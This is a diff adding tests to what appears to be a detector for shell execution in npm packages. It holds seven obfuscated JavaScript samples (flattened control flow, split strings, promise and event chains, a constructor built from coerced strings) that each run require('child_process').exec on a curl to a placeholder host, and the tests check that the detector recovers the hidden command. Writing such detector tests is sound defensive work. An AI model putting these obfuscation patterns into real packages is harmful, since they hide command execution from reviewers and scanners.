@@ -62,3 +62,40 @@ def test_a_getter_runs_when_its_name_is_read_only():
     code = f"exports.box = {{ get run () {{ return require({NAME}).execSync('ls') }} }}\n"
     found = reading.facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
     assert {fact.activation for fact in found["exec/shell"]} == {"call"}
+
+
+OBFUSCATED = {
+    "flattened": (
+        "const o='3|1|0|2'.split('|');let i=0;let c,s,f;while(!![]){switch(o[i++]){case'0':"
+        "f=c['ex'+'ec'];continue;case'1':s='curl '+'https://a.invalid/x';continue;case'2':f(s);"
+        "continue;case'3':c=require('child'+'_process');continue;}break;}"
+    ),
+    "calls in an object": (
+        "const t={'a':function(f,x){return f(x)},'b':function(x,y){return x+y}};"
+        "const c=t['a'](require,t['b']('child_','process'));"
+        "t['a'](c['exec']['bind'](c),t['b']('curl ','https://a.invalid/x'))"
+    ),
+    "promises": (
+        "Promise.resolve('child'+'_process').then(n=>require(n))"
+        ".then(m=>m.exec('curl https://a.invalid/x'))"
+    ),
+    "events": (
+        "const E=require('events');const e=new E();e.on('go',(c)=>require('child'+'_process').exec(c));"
+        "e.emit('go','curl https://a.invalid/x')"
+    ),
+    "nullish": "let r;r??=require;r('child'+'_process').exec('curl https://a.invalid/x')",
+    "private": (
+        "class A{#c='curl https://a.invalid/x';#m(){return require('child'+'_process')}"
+        "run(){this.#m().exec(this.#c)}} new A().run()"
+    ),
+    "absent": (
+        "var _=[],a={};a.c=({}+'')[5];a.o=({}+'')[1];a.n=(_[0]+'')[1];a.s=(!1+'')[3];a.t=(!0+'')[0];"
+        "a.r=(!0+'')[1];a.u=(!0+'')[2];var k=a.c+a.o+a.n+a.s+a.t+a.r+a.u+a.c+a.t+a.o+a.r;"
+        '_[k][k](\'require("child_process").exec("curl https://a.invalid/x")\')()'
+    ),
+}
+
+
+@pytest.mark.parametrize("how", OBFUSCATED)
+def test_what_obfuscators_write_ends_as_the_command_that_it_hides(how):
+    assert "curl https://a.invalid/x" in _commands(OBFUSCATED[how])
